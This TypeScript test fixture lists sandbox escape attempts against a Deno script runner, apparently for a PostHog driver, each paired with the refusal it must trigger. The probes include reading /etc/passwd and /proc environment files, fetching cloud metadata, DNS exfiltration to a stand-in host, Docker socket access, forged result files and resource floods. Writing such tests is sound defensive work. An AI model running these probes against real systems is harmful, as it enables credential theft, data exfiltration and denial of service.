import type { RunErrorKind } from "@posthog-driver/posthog-driver/executor";

/** A script that tries to get out, and what must be said about it. */
export interface EscapeAttempt {
  /** What it tries. */
  readonly name: string;
  /** Body of an async function that gets `params`; it returns what it got. */
  readonly body: string;
  /** Must be in the error's message: what was refused. */
  readonly refused: RegExp;
  /** How the run ends; a script that is refused something throws. */
  readonly kind?: RunErrorKind;
  /** Whether it must have as much memory as a run has by default. */
  readonly isRoomy?: boolean;
  /** Statements before the function. */
  readonly imports?: string;
}

const READ = /^NotCapable: Requires read access/;
const NET = /^NotCapable: Requires net access/;
const ENDLESS = /took longer than/;

/** All attempts; `params` holds what lies outside: a file, a port. */
export const ESCAPE_ATTEMPTS: readonly EscapeAttempt[] = [
  // Files
  {
    name: "read /etc/passwd",
    body: `return Deno.readTextFileSync("/etc/passwd");`,
    refused: /read access to "\/etc\/passwd"/,
  },
  {
    name: "read the parent's file through node:fs",
    imports: `import fs from "node:fs";`,
    body: `return fs.readFileSync(params.secretFile, "utf8");`,
    refused: READ,
  },
  {
    name: "read the neighbour's directory by a relative path",
    body: `return [...Deno.readDirSync("..")].map((entry) => entry.name);`,
    refused: READ,
  },
  {
    name: "list the root",
    body: `return [...Deno.readDirSync("/")].length;`,
    refused: /read access to "\/"/,
  },
  {
    name: "read a file as a module of text, in a static import",
    imports: `import text from "/etc/passwd" with { type: "text" };`,
    body: `return text;`,
    refused: /read access to "\/etc\/passwd"/,
  },
  {
    name: "read a file as a module of text, in a dynamic import",
    body:
      `return (await import("/etc/passwd", { with: { type: "text" } })).default;`,
    refused: /read access to "\/etc\/passwd"/,
  },
  {
    name: "import a module from outside",
    body: `return await import(params.moduleFile);`,
    refused: /Requires read access/,
  },
  {
    name: "import a module of data that imports a file from outside",
    body:
      `return (await import("data:text/javascript,export { default } from 'file:///etc/passwd' with { type: 'text' }")).default;`,
    refused: /./,
  },
  {
    name: "fetch a file",
    body: `return await (await fetch("file:///etc/passwd")).text();`,
    refused: READ,
  },
  {
    name: "make a symbolic link to a file outside",
    body:
      `Deno.symlinkSync("/etc/passwd", "run/link"); return Deno.readTextFileSync("run/link");`,
    refused: /symlink/,
  },
  {
    name: "make a hard link to a file outside",
    body: `Deno.linkSync(params.secretFile, "run/link"); return 1;`,
    refused: READ,
  },
  {
    name: "read its own environment from /proc",
    body: `return Deno.readTextFileSync("/proc/self/environ");`,
    refused: /access to "\/proc\/self\/environ"/,
  },
  {
    name: "read the parent's command line from /proc",
    body: "return Deno.readTextFileSync(`/proc/${params.parentPid}/cmdline`);",
    refused: /access to "\/proc/,
  },
  {
    name: "open a database elsewhere",
    imports: `import { DatabaseSync } from "node:sqlite";`,
    body: `return new DatabaseSync(params.outside + "/a.db");`,
    refused: /Requires read access|Requires write access/,
  },
  {
    name: "attach a database elsewhere",
    imports: `import { DatabaseSync } from "node:sqlite";`,
    body:
      "const db = new DatabaseSync(':memory:'); db.exec(`ATTACH '${params.outside}/a.db' AS a; CREATE TABLE a.t (x)`); return 1;",
    refused: /./,
  },
  {
    name: "write outside",
    body: `Deno.writeTextFileSync(params.outside + "/a", "a"); return 1;`,
    refused: /Requires write access/,
  },
  {
    name: "change the frame for the next run",
    body: `Deno.writeTextFileSync("runner.mjs", ""); return 1;`,
    refused: /Requires write access to/,
  },
  {
    name: "change the driver for the next run",
    imports: `import fs from "node:fs";`,
    body: `fs.renameSync("posthog_driver.mjs", "run/driver.mjs"); return 1;`,
    refused: /Requires (read and )?write access|Requires read access/,
  },
  {
    name: "remove the sandbox's own directory",
    body: `Deno.removeSync(".", { recursive: true }); return 1;`,
    refused: /Requires write access/,
  },
  {
    name: "leave something in local storage for the next run",
    body: `localStorage.setItem("a", "b"); return localStorage.length;`,
    refused: /./,
  },
  {
    name: "leave something in the cache for the next run",
    body:
      `await (await caches.open("a")).put("http://a/", new Response("b")); return 1;`,
    refused: /cache storage/,
  },
  {
    name: "write a heap snapshot outside",
    imports: `import v8 from "node:v8";`,
    body: `return v8.writeHeapSnapshot(params.outside + "/heap");`,
    refused: /./,
  },
  // Network
  {
    name: "reach another host",
    body: `return (await fetch("https://example.com/")).status;`,
    refused: /net access to "example.com:443"/,
  },
  {
    name: "reach an address of the network",
    body: `return (await fetch("http://169.254.169.254/latest/")).status;`,
    refused: /net access to "169.254.169.254:80"/,
  },
  {
    name: "reach another port of this machine",
    body: "return (await fetch(`http://127.0.0.1:${params.port}/`)).status;",
    refused: NET,
  },
  {
    name: "reach it by TCP",
    body:
      `await Deno.connect({ hostname: "127.0.0.1", port: params.port }); return 1;`,
    refused: NET,
  },
  {
    name: "reach it by node:net",
    imports: `import net from "node:net"; import { once } from "node:events";`,
    body:
      `await once(net.connect(params.port, "127.0.0.1"), "connect"); return 1;`,
    refused: /Requires net access/,
  },
  {
    name: "reach it by a web socket",
    body:
      "return new Promise((done, fail) => { const socket = new WebSocket(`ws://127.0.0.1:${params.port}/`); socket.onopen = () => done(1); socket.onerror = (e) => fail(e.error ?? new Error(e.message)); });",
    refused: NET,
  },
  {
    name: "carry data out by DNS",
    body: `return await Deno.resolveDns("secret.example.com", "A");`,
    // Behind a second wall there is not even a list of name servers.
    refused: /Requires net access|No such file/,
  },
  {
    name: "carry data out by node:dns",
    imports: `import dns from "node:dns/promises";`,
    body: `return await dns.resolve4("secret.example.com");`,
    refused: /Requires net access|getaddrinfo|queryA/,
  },
  {
    name: "carry data out by UDP",
    imports:
      `import dgram from "node:dgram"; import { once } from "node:events";`,
    body:
      `const socket = dgram.createSocket("udp4"); socket.send("a", 53, "127.0.0.1"); await once(socket, "listening"); return 1;`,
    refused: /Requires net access/,
  },
  {
    name: "listen on a port",
    body: `return Deno.listen({ port: 0 }).addr.port;`,
    refused: NET,
  },
  {
    name: "speak to a socket of the system",
    body:
      `await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }); return 1;`,
    refused: /Requires (read|write|net) access/,
  },
  {
    name: "lead the gateway to another host",
    imports: `import process from "node:process";`,
    body:
      "const response = await fetch(process.env.POSTHOG_API_URL + '@127.0.0.1:' + params.port + '/'); if (response.ok) return 1; throw new Error(await response.text());",
    refused: /This is not PostHog/,
  },
  {
    name: "leave the gateway's path",
    imports: `import process from "node:process";`,
    body:
      "const response = await fetch(process.env.POSTHOG_API_URL + '/../'); if (response.ok) return 1; throw new Error(await response.text());",
    refused: /This is not PostHog/,
  },
  {
    name: "take the order of the next run",
    imports: `import process from "node:process";`,
    body:
      "const response = await fetch(`${process.env.POSTHOG_API_URL}/-/order/${process.env.POSTHOG_ORDER}`); if (response.ok) return 1; throw new Error(`order: ${response.status}`);",
    refused: /order: 404/,
  },
  // Code
  {
    name: "import from the web",
    body: "return await import(`http://127.0.0.1:${params.port}/a.js`);",
    refused: /Requires import access/,
  },
  {
    name: "import from npm",
    body: `return await import("npm:ky");`,
    refused: /--no-npm/,
  },
  {
    name: "import from JSR",
    body: `return await import("jsr:@std/assert");`,
    refused: /--no-remote|jsr/,
  },
  {
    name: "start a process",
    body: `return new Deno.Command("/bin/id").outputSync().code;`,
    refused: /Requires run access/,
  },
  {
    name: "start a shell through node:child_process",
    imports: `import { execFileSync } from "node:child_process";`,
    body: `return execFileSync("/bin/id", { env: {} }).toString();`,
    refused: /Requires (run|env) access/,
  },
  {
    name: "kill the parent",
    body: `Deno.kill(Deno.ppid, "SIGKILL"); return 1;`,
    refused: /Requires run access/,
  },
  {
    name: "call native code",
    body:
      `return Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid();`,
    refused: /Requires (ffi|read) access/,
  },
  {
    name: "load a native module",
    imports: `import process from "node:process";`,
    body:
      `process.dlopen({ exports: {} }, params.outside + "/a.node"); return 1;`,
    refused: /./,
  },
  {
    name: "let a worker read",
    isRoomy: true,
    body:
      `const worker = new Worker("data:text/javascript,try { postMessage(Deno.readTextFileSync('/etc/passwd')) } catch (e) { postMessage('refused: ' + e.message) }", { type: "module" });
       const got = await new Promise((done) => worker.onmessage = (e) => done(e.data)); worker.terminate();
       if (got.startsWith("refused: ")) throw new Error(got); return got;`,
    refused: /read access to "\/etc\/passwd"/,
  },
  {
    name: "let a worker import a file",
    isRoomy: true,
    body:
      `const worker = new Worker("data:text/javascript,import text from 'file:///etc/passwd' with { type: 'text' }; postMessage(text)", { type: "module" });
       return await new Promise((done, fail) => { worker.onmessage = (e) => done(e.data); worker.onerror = (e) => { e.preventDefault(); fail(new Error("worker: " + e.message)); }; });`,
    refused: /worker: /,
  },
  // The machine
  {
    name: "read a variable of the system",
    body: `return Deno.env.get("HOME");`,
    refused: /env access to "HOME"/,
  },
  {
    name: "read all variables",
    body: `return Deno.env.toObject();`,
    refused: /Requires env access/,
  },
  {
    name: "learn the machine's name",
    body: `return Deno.hostname();`,
    refused: /Requires sys access/,
  },
  {
    name: "open a debugger",
    imports: `import inspector from "node:inspector";`,
    body: `inspector.open(0); return 1;`,
    refused: /Requires (sys|net) access/,
  },
  {
    name: "ask the person for a permission",
    body:
      `const { state } = await Deno.permissions.request({ name: "read", path: "/etc" }); if (state === "granted") return 1; throw new Error("permission: " + state);`,
    refused: /permission: denied/,
  },
  // Floods
  {
    name: "loop for ever",
    body: `for (;;);`,
    kind: "timeout",
    refused: ENDLESS,
  },
  {
    name: "swallow signals and loop",
    body:
      `for (const signal of ["SIGTERM", "SIGINT", "SIGHUP"]) { try { Deno.addSignalListener(signal, () => {}); } catch {} } for (;;);`,
    kind: "timeout",
    refused: ENDLESS,
  },
  {
    name: "wait for ever with a timer",
    body: `setInterval(() => {}, 1000); await new Promise(() => {});`,
    kind: "timeout",
    refused: ENDLESS,
  },
  {
    name: "fill the heap",
    body:
      `const all = []; for (;;) all.push(Array.from({ length: 100_000 }, (_, i) => ({ i })));`,
    kind: "out_of_memory",
    refused: /more memory than it may/,
  },
  {
    name: "fill the memory beside the heap",
    body:
      `const all = []; for (;;) all.push(new Uint8Array(16 << 20).fill(1));`,
    kind: "out_of_memory",
    refused: /allocation failed/,
  },
  {
    name: "fill the memory of WebAssembly",
    body:
      `const all = []; for (;;) { const memory = new WebAssembly.Memory({ initial: 256 }); new Uint8Array(memory.buffer).fill(1); all.push(memory); }`,
    kind: "out_of_memory",
    refused: /could not allocate memory/,
  },
  {
    name: "start workers without end",
    body:
      `for (;;) { new Worker("data:text/javascript,setInterval(() => {}, 1e6)", { type: "module" }); await new Promise((r) => setTimeout(r)); }`,
    kind: "out_of_memory",
    refused: /more memory than it may/,
  },
  {
    name: "fill the disk with one file",
    body:
      `const file = Deno.openSync("run/big", { write: true, create: true }); for (;;) file.writeSync(new Uint8Array(1 << 20));`,
    kind: "killed",
    refused: /SIGXFSZ|bytes to disk/,
  },
  {
    name: "fill the disk with several files",
    body:
      `for (let i = 0;; i++) { Deno.writeFileSync("run/" + i, new Uint8Array(8 << 20)); await new Promise((r) => setTimeout(r, 10)); }`,
    kind: "killed",
    refused: /bytes to disk/,
  },
  {
    name: "fill the disk with names",
    body: `for (let i = 0;; i++) Deno.writeTextFileSync("run/" + i, "");`,
    kind: "killed",
    refused: /more than 10000 files/,
  },
  {
    name: "print a gigabyte",
    body:
      `const line = "x".repeat(1 << 20); for (let i = 0; i < 1024; i++) console.log(line); return 1;`,
    kind: "output_flood",
    refused: /printed more than it may/,
  },
  {
    name: "complain a gigabyte",
    body:
      `const line = "x".repeat(1 << 20); for (let i = 0; i < 1024; i++) console.error(line); return 1;`,
    kind: "output_flood",
    refused: /printed more than it may/,
  },
  {
    name: "return more than a result may be",
    isRoomy: true,
    body: `return "x".repeat(100 << 20);`,
    kind: "bad_result",
    refused: /more than 67108864/,
  },
  // The frame
  {
    name: "put a result file there by itself",
    imports: `import process from "node:process";`,
    body:
      `Deno.writeTextFileSync("run/" + [...Deno.readDirSync("run")][0].name + "/result.json", JSON.stringify({ token: "", ok: true, result: "forged", envelopes: [], usage: { requests: 0, rows: 0, bytes: 0, writes: 0 }, warnings: [], artifacts: [] })); Deno.exit(0);`,
    kind: "bad_result",
    refused: /the script wrote it, not the frame/,
  },
  {
    name: "leave a huge result file",
    imports: `import process from "node:process";`,
    body:
      `Deno.writeFileSync("run/" + [...Deno.readDirSync("run")][0].name + "/result.json", new Uint8Array(20 << 20)); Deno.exit(0);`,
    kind: "bad_result",
    refused: /Cannot read the result/,
  },
  {
    name: "turn JSON around and throw",
    body:
      `JSON.stringify = () => '"forged"'; Object.prototype.toJSON = () => "forged"; Array.prototype.map = () => { throw 1; }; throw new Error("still told");`,
    refused: /./,
  },
  {
    name: "replace the end of the process",
    imports: `import process from "node:process";`,
    body:
      `process.exit = () => {}; Deno.exit = () => {}; Promise.prototype.then = () => {}; throw new Error("still told");`,
    refused: /./,
  },
  {
    name: "name an artifact outside",
    body: `return await artifact("../../../a", "a");`,
    refused: /a name is letters, digits/,
  },
];
